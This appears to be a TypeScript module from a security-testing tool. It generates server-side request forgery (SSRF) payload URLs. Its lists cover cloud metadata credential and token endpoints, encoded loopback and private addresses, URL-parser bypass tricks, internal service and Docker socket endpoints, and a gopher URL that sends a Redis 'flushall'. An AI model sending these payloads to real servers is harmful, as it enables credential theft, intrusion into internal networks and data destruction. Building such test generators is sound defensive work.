import type { Generator } from '../../attack.js';
import { type Rules, writeByGrammar, writeDistinct } from '../../grammar.js';
import { internalAddress, toDecimal, toDotted, toHexadecimal, toMapped, toOctal } from '../addresses.js';
import { carriedUrl } from './carried-url.js';
import { internalServices } from './internal-services.js';
import { localNames } from './local-names.js';
import { metadataServices } from './metadata-services.js';
import { otherScheme } from './other-scheme.js';
import { parserDifferences } from './parser-differences.js';
import { writtenAddress } from './written-address.js';

const COMMON: Rules = {
  scheme: ['http', 'http', 'https'],
  address: (random) => toDotted(internalAddress(random)),
  decimal: (random) => toDecimal(internalAddress(random)),
  octal: (random) => toOctal(internalAddress(random), random),
  hexadecimal: (random) => toHexadecimal(internalAddress(random), random),
  mapped: (random) => toMapped(internalAddress(random), random),
  port: ['', '', ':80', ':8080', ':22', ':6379', ':9200', ':2375', ':3306', ':5000', ':443'],
  path: [
    '/',
    '',
    '/admin',
    '/server-status',
    '/api/v1/users',
    '/metrics',
    '/?a=1',
    '/actuator/env',
    '/_cat/indices',
    '/v1/agent/self',
  ],
  public: ['example.com', 'cdn.example.org', 'www.example.net', 'trusted.example'],
  word: (random) => Array.from({ length: 4 }, () => random.pick([...'abcdefghijklmnop'])).join(''),
  digit: (random) => String(1 + random.below(250)),
};

function generator(name: string, rules: Rules): Generator {
  return {
    family: 'ssrf',
    name,
    generate: (random, count) =>
      writeDistinct(
        count,
        () => ({
          family: 'ssrf' as const,
          text: writeByGrammar(random, { ...COMMON, ...rules }),
          position: { context: 'url' },
          origin: name,
          mutations: [],
        }),
        ({ text }) => text,
      ),
  };
}

/** Addresses that only the server can reach, by how they are written. */
export const SSRF_GENERATORS: readonly Generator[] = [
  generator('loopback', {
    start: ['{scheme}://{host}{port}{path}'],
    host: [
      '127.0.0.1',
      'localhost',
      '127.0.0.1',
      '0.0.0.0',
      '[::1]',
      '[::]',
      '127.{digit}.{digit}.{digit}',
      'LOCALHOST',
      'localhost.',
    ],
  }),
  generator('private-networks', {
    start: ['{scheme}://{host}{port}{path}'],
    host: [
      '10.{digit}.{digit}.{digit}',
      '192.168.{digit}.{digit}',
      '172.16.{digit}.{digit}',
      '172.31.{digit}.{digit}',
      '10.0.0.{digit}',
      '192.168.0.1',
      '169.254.{digit}.{digit}',
      '100.64.{digit}.{digit}',
    ],
  }),
  generator('cloud-metadata', {
    start: [
      'http://169.254.169.254/{aws}',
      'http://metadata.google.internal/{google}',
      'http://169.254.169.254/{azure}',
      'http://100.100.100.200/latest/meta-data/',
      'http://[fd00:ec2::254]/{aws}',
      'http://169.254.170.2/v2/credentials/{word}',
      'http://192.0.0.192/latest/',
      'http://169.254.169.254:80/{aws}',
      'http://metadata/{google}',
    ],
    aws: [
      'latest/meta-data/',
      'latest/meta-data/iam/security-credentials/',
      'latest/user-data',
      'latest/dynamic/instance-identity/document',
      'latest/api/token',
      '',
    ],
    google: [
      'computeMetadata/v1/instance/service-accounts/default/token',
      'computeMetadata/v1beta1/',
      'computeMetadata/v1/project/',
    ],
    azure: [
      'metadata/instance?api-version=2021-02-01',
      'metadata/identity/oauth2/token',
      'openstack',
      'metadata/v1.json',
    ],
  }),
  generator('decimal-numbers', {
    start: [
      '{scheme}://{decimal}{port}{path}',
      '{scheme}://2130706433{port}{path}',
      '{scheme}://0{port}{path}',
      '{scheme}://{decimal}/',
    ],
  }),
  generator('octal-numbers', {
    start: [
      '{scheme}://{octal}{port}{path}',
      '{scheme}://0177.0.0.1{port}{path}',
      '{scheme}://017700000001{port}{path}',
      '{scheme}://0177.0x0.0.1{port}{path}',
    ],
  }),
  generator('hexadecimal-numbers', {
    start: [
      '{scheme}://{hexadecimal}{port}{path}',
      '{scheme}://0x7f.0.0.1{port}{path}',
      '{scheme}://0x7f.1{port}{path}',
      '{scheme}://0x7F000001{port}{path}',
      '{scheme}://0xA9.0xFE.0xA9.0xFE/latest/',
    ],
  }),
  generator('short-forms', {
    start: [
      '{scheme}://127.1{port}{path}',
      '{scheme}://127.0.1{port}{path}',
      '{scheme}://10.{digit}{port}{path}',
      '{scheme}://192.168.{digit}{port}{path}',
      '{scheme}://0{port}{path}',
      '{scheme}://127.{digit}{port}{path}',
      '{scheme}://169.254.43518{port}{path}',
      '{scheme}://10.{digit}.{digit}{port}{path}',
    ],
  }),
  generator('ipv6-forms', {
    start: [
      '{scheme}://[{mapped}]{port}{path}',
      '{scheme}://[{loop}]{port}{path}',
      '{scheme}://[fe80::{digit}]{port}{path}',
      '{scheme}://[fc00::{digit}]{port}{path}',
      '{scheme}://[fd{hex}:{hex}{hex}::1]{port}{path}',
      '{scheme}://[64:ff9b::{address}]{port}{path}',
      '{scheme}://[2002:7f00:1::]{port}{path}',
      '{scheme}://[::{address}]{port}{path}',
    ],
    loop: ['::1', '0:0:0:0:0:0:0:1', '0000::1', '::0001', '0::0:1', '::'],
    hex: ['00', '12', 'ab', 'ff'],
  }),
  generator('other-schemes', {
    start: [
      'gopher://{host}:6379/_*1%0d%0a$8%0d%0aflushall',
      'dict://{host}:11211/stats',
      'ftp://{host}/{word}',
      'ldap://{host}:389/dc={word}',
      'tftp://{host}/{word}',
      'sftp://{host}:22/',
      'ws://{host}{port}{path}',
      'rtsp://{host}/{word}',
      'smb://{host}/c$',
      'redis://{host}:6379/0',
      'mysql://root@{host}:3306/{word}',
      'mongodb://{host}:27017/{word}',
      'jdbc:mysql://{host}/{word}',
      'ssh://root@{host}',
    ],
    host: ['127.0.0.1', 'localhost', '{address}', '[::1]', '{decimal}'],
  }),
  generator('names', {
    start: ['{scheme}://{name}{port}{path}'],
    name: [
      '{word}.localhost',
      '127.0.0.1.nip.io',
      '{address}.nip.io',
      '{word}.{address}.sslip.io',
      'localtest.me',
      '{word}.localtest.me',
      'lvh.me',
      'host.docker.internal',
      'kubernetes.default.svc',
      'metadata.google.internal',
      'ip6-localhost',
      'localhost.localdomain',
      'vcap.me',
      '{address}.xip.io',
      'customer1.app.localhost.my.company.127.0.0.1.nip.io',
      'gateway.docker.internal',
      'kubernetes.default.svc.cluster.local',
      'consul.service.consul',
      'instance-data.ec2.internal',
    ],
  }),
  generator('userinfo', {
    start: [
      '{scheme}://{public}@{host}{port}{path}',
      '{scheme}://{public}:80@{host}{path}',
      '{scheme}://{word}:{word}@{host}{port}{path}',
      '{scheme}://{public}%40@{host}{path}',
      '{scheme}://{public}%2f@{host}{path}',
      '{scheme}://{public}#@{host}{path}',
      '{scheme}://{public}\\@{host}{path}',
      '{scheme}://{host}\\@{public}{path}',
      '{scheme}://{public}&@{host}{path}',
      '{scheme}://{host}#@{public}/',
      '{scheme}://{host}?@{public}/',
    ],
    host: ['127.0.0.1', 'localhost', '{address}', '[::1]', '169.254.169.254', '{decimal}'],
  }),
  generator('relative-and-odd-slashes', {
    start: [
      '//{host}{port}{path}',
      '\\\\{host}\\{word}',
      '/\\{host}{path}',
      '{scheme}:{host}{path}',
      '{scheme}:/{host}{port}{path}',
      '{scheme}:///{host}{path}',
      '{scheme}:\\\\{host}{path}',
      '{scheme}:/\\{host}{path}',
      '{scheme}:////{host}{path}',
    ],
    host: ['127.0.0.1', 'localhost', '{address}', '169.254.169.254', '[::1]'],
  }),
  generator('odd-characters', {
    start: ['{scheme}://{odd}{port}{path}'],
    odd: [
      '①②⑦.⓪.⓪.①',
      '１２７.０.０.１',
      '127。0。0。1',
      '127．0．0．1',
      '127｡0｡0｡1',
      'ⓛⓞⓒⓐⓛⓗⓞⓢⓣ',
      'localhosｔ',
      '⑯⑨.②⑤④.⑯⑨.②⑤④',
      '%31%32%37.0.0.1',
      '127%2e0%2e0%2e1',
      'loc%61lhost',
      '12\t7.0.0.1',
      'local\u00adhost',
      'lo\u200bcalhost',
      '127.0.0.1.',
      '%6c%6f%63%61%6c%68%6f%73%74',
      'LOCALHOST%2e',
      '0x7f%2e1',
    ],
  }),
  generator('service-sockets', {
    start: [
      'http://unix:/var/run/docker.sock:/containers/json',
      'unix:///var/run/docker.sock',
      'http+unix://%2Fvar%2Frun%2Fdocker.sock/{word}',
      'http://{host}:2375/containers/json',
      'http://{host}:10250/pods',
      'http://{host}:9200/_search',
      'http://{host}:8500/v1/kv/{word}',
      'http://{host}:4040/api/tunnels',
      'http://{host}:15672/api/overview',
      'http://{host}:8080/manager/html',
      'http://{host}:5601/api/status',
      'http://{host}:2379/v2/keys/{word}',
    ],
    host: ['127.0.0.1', 'localhost', '{address}'],
  }),
  carriedUrl,
  metadataServices,
  localNames,
  otherScheme,
  parserDifferences,
  writtenAddress,
  internalServices,
];
